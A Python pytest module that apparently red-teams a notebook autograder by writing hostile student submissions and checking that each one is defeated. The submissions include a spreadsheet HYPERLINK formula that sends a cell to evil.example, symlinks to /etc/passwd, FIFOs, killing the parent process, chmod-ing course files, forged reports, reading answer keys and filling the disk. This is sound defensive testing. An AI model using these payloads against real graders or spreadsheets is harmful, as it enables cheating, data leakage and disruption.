"""A second round of attacks on the grader, by a student who has read ``helpers/grading/``.

Reuses the hostile suite's course copy and notebook maker. One grading run per sandbox holds every attack that
needs a kernel; the attacks on the file names and the gradebook's cells need none. After grading: the honest
notebook graded after the attackers keeps its score, every cheat scores nothing, the course copy is as before
(bytes and permissions), and no process is left.
"""

from __future__ import annotations

import csv
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from test_grading_hostile import IMPORTS, PERFECT, TIMEOUT, WRONG, course, notebook, tree  # noqa: F401 - fixtures reused

from helpers.grading import grade_folder
from helpers.grading.box import bwrap_available

ROOT = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME_FORMULA = '=HYPERLINK("evil.example","click")'  # a file name holds no "/"
KILL_RUNNER = "import signal\nos.kill(os.getppid(), signal.SIGKILL)"


def modes(folder: Path) -> dict[str, int]:
    return {p.relative_to(folder).as_posix(): p.lstat().st_mode for p in sorted(folder.rglob("*"))
            if "__pycache__" not in p.parts}


def with_kernelspec(nb: nbformat.NotebookNode, kernelspec: dict) -> nbformat.NotebookNode:
    nb.metadata["kernelspec"] = kernelspec  # the grader runs its own python3 kernel whatever this says
    return nb


def attacks(course_dir: Path) -> dict[str, nbformat.NotebookNode]:
    checks = course_dir / "helpers" / "checks"
    return {
        # The box's output files made a FIFO (the grader would wait for a writer forever) and links out of the
        # box (the grader would read, or chmod while cleaning up, the files they point at); then the runner dies.
        "r01_fifo_and_links": notebook(
            IMPORTS, 'check("00.1", "wrong")\n'
            'for name in ("run.json", "handover.jsonl"):\n    if os.path.exists(name):\n        os.remove(name)\n'
            '    os.mkfifo(name)\n'
            f'os.symlink({str(checks)!r}, "link_to_the_checks")\n'
            f'os.symlink({str(checks / "lesson_00.py")!r}, "executed.ipynb")\n' + KILL_RUNNER),
        # Permissions: a course made unreadable breaks every later student's kernel, with no byte changed.
        "r02_chmods_the_course": notebook(
            IMPORTS, f"for path in [{str(checks / 'lesson_00.py')!r}, {str(course_dir / 'seeds')!r}]:\n"
            "    try:\n        os.chmod(path, 0)\n    except OSError as err:\n        print(err)\n" + WRONG),
        # A report of its own (status ok, a formula for a problem), a hand-over line nested to crash the
        # grader's JSON parser, and a written answer that is a spreadsheet formula.
        "r03_forges_the_report": notebook(
            IMPORTS, f"written('00.5', {HYPERLINK!r})\n"
            "with open(os.environ['REDLINES_HANDOVER'], 'a') as f:\n    f.write('[' * 200000 + '\\n')\n"
            f"json.dump({{'status': 'ok', 'problem': {HYPERLINK!r}}}, open('run.json', 'w'))\n"
            "nbformat_like = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}\n"
            "json.dump(nbformat_like, open('executed.ipynb', 'w'))\n" + KILL_RUNNER),
        # The worked answers, next to the course the kernel imports.
        "r04_reads_the_solutions": with_kernelspec(notebook(
            IMPORTS, "import helpers\nroot = os.path.dirname(os.path.dirname(helpers.__file__))\n"
            "try:\n    keys = json.load(open(os.path.join(root, 'solutions', 'check_secrets.json')))\n"
            "except OSError as err:\n    keys = {}\n    print(err)\n"
            "check('00.1', keys.get('00.1', ['?'])[0])\ncheck('00.2', int(keys.get('00.2', ['0'])[0]))",
            ), {"name": "../../../tmp/evil", "display_name": "x", "language": "bash"}),
        # Disk and memory no rlimit counts: files in its folder (each under the file-size limit), and, in
        # bubblewrap's own process namespace (small pids), its /dev/shm.
        "r05_fills_the_disk": notebook(
            IMPORTS, "import time\nif os.getpid() < 100:\n    try:\n"
            "        for n in range(4):\n            open(f'/dev/shm/big{n}', 'wb').write(b'x' * 30_000_000)\n"
            "    except OSError as err:\n"
            "        written('00.6', f'shm: {err}')\nfor n in range(15):\n"
            "    open(f'big{n}', 'wb').write(b'x' * 20_000_000)\n    time.sleep(0.1)\n"
            "while True:\n    time.sleep(1)"),
    }


@pytest.fixture(scope="module", params=["none", "bwrap"])
def graded(request, course, tmp_path_factory):  # noqa: F811 - ``course`` is the hostile suite's fixture
    if request.param == "bwrap" and bwrap_available() is None:
        pytest.skip("bubblewrap is not installed or not allowed here (apt-get install bubblewrap)")
    (course / "solutions").mkdir(exist_ok=True)
    shutil.copy(ROOT / "solutions" / "check_secrets.json", course / "solutions" / "check_secrets.json")
    tmp = tmp_path_factory.mktemp(f"redteam-{request.param}")
    folder, out = tmp / "submissions", tmp / "grades"
    folder.mkdir()
    for name, nb in attacks(course).items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    shutil.copy(PERFECT, folder / "z_perfect_after.ipynb")  # graded after every attack
    before = tree(course), modes(course)
    env = {**os.environ, "PYTHONPATH": str(course)}
    command = [sys.executable, "-m", "helpers.grading", str(folder), "--out", str(out), "--timeout", str(TIMEOUT),
               "--sandbox", request.param, "--disk-mb", "100"]
    run = subprocess.run(command, capture_output=True, text=True, timeout=12 * TIMEOUT, cwd=course, env=env)
    assert run.returncode == 0, run.stdout + run.stderr
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        book = {row["submission"]: row for row in csv.DictReader(f)}
    return request.param, book, out, before, (tree(course), modes(course))


def test_the_honest_notebook_after_the_attacks_keeps_its_score(graded):
    book = graded[1]
    assert (book["z_perfect_after"]["points"], book["z_perfect_after"]["status"]) == ("4", "ok")


def test_every_attack_scores_nothing(graded):
    sandbox, book = graded[0], graded[1]
    for name in ("r01_fifo_and_links", "r02_chmods_the_course", "r03_forges_the_report", "r05_fills_the_disk"):
        assert book[name]["points"] == "0", (name, book[name])
    solutions = book["r04_reads_the_solutions"]
    if sandbox == "bwrap":  # solutions/ is hidden from the box
        assert solutions["points"] == "0", solutions
    else:  # the documented limit of --sandbox none (INSTRUCTORS.md): the kernel reads what the grader's user reads
        assert solutions["points"] == "2", solutions


def test_the_course_keeps_its_bytes_and_permissions(graded):
    (bytes_before, modes_before), (bytes_after, modes_after) = graded[3], graded[4]
    assert bytes_after == bytes_before
    assert modes_after == modes_before
    if graded[0] == "none":  # caught and put back
        assert graded[1]["r02_chmods_the_course"]["status"] == "tampered"


def test_a_killed_runner_cannot_report_for_itself(graded):
    book, out = graded[1], graded[2]
    for name in ("r01_fifo_and_links", "r03_forges_the_report"):
        assert book[name]["status"] == "failed", book[name]
        assert "killed" in book[name]["problem"]
    assert "grader failed" not in book["r03_forges_the_report"]["problem"]  # the nested line was skipped
    for name in ("gradebook.csv", "checks.csv", "written_answers.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], name
    with open(out / "written_answers.csv", newline="", encoding="utf-8") as f:
        answers = {(r["exercise"], r["submission"]): r["answer"] for r in csv.DictReader(f)}
    assert answers["00.5", "r03_forges_the_report"] == "'" + HYPERLINK  # kept, shown as text


def test_names_links_and_formulas_in_the_submissions_folder(tmp_path):
    """File names are the student's too: a formula, a newline, a link to /etc/passwd or to a folder elsewhere."""
    folder, out, elsewhere = tmp_path / "subs", tmp_path / "out", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (elsewhere / "01_other_class.ipynb").write_text("{}", encoding="utf-8")
    (folder / f"{NAME_FORMULA}.ipynb").write_text("not json", encoding="utf-8")
    (folder / "line\nbreak.txt").write_text("x", encoding="utf-8")
    (folder / "passwd.ipynb").symlink_to("/etc/passwd")
    (folder / "linked_folder").symlink_to(elsewhere, target_is_directory=True)
    subs = grade_folder(folder, out, timeout=TIMEOUT)
    rows = {s.name: s for s in subs}
    assert rows[NAME_FORMULA].status == "unreadable"
    assert rows["passwd"].status == "unreadable" and "link" in rows["passwd"].problem
    assert not [s for s in subs if "other_class" in s.name]  # a linked folder is not walked
    text = (out / "gradebook.csv").read_text(encoding="utf-8")
    assert "root:" not in text
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        names = [row["submission"] for row in csv.DictReader(f)]
    assert "'" + NAME_FORMULA in names and "line\nbreak" in names
    assert not (out / "executed").exists() or all(p.resolve().is_relative_to(out) for p in out.rglob("*"))


def test_box_outputs_are_read_only_when_plain_files(tmp_path):
    """The grader's reader of a box's files neither follows a link nor waits on a FIFO."""
    from helpers.grading.box import _read_capped

    (tmp_path / "plain").write_bytes(b"abc")
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "link").symlink_to(tmp_path / "plain")
    assert _read_capped(tmp_path / "plain", 10) == b"abc"
    assert _read_capped(tmp_path / "plain", 2) is None
    assert _read_capped(tmp_path / "fifo", 10) is None  # returns at once
    assert _read_capped(tmp_path / "link", 10) is None
    assert stat.S_ISFIFO((tmp_path / "fifo").lstat().st_mode)


def test_a_notebook_that_fills_the_disk_is_stopped(graded):
    book, out = graded[1], graded[2]
    row = book["r05_fills_the_disk"]
    assert row["status"] == "failed" and "more than 100 MB" in row["problem"], row
    if graded[0] == "bwrap":  # /dev/shm has a size of its own in the box
        text = (out / "written_answers.csv").read_text(encoding="utf-8")
        assert "shm: [Errno 28] No space left" in text
